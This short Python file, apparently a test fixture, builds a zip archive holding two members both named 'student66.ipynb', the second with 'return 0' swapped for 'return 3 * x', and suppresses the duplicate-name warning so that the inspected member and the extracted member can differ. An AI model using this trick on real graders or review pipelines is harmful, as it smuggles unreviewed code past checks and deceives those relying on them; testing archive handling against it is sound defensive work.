"""Two members of one name: the one that is looked at and the one that is taken could differ."""
import warnings
import zipfile

def attack(path, notebook):
    with zipfile.ZipFile(path, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("student66.ipynb", notebook)
        archive.writestr("student66.ipynb", notebook.replace("return 0", "return 3 * x"))
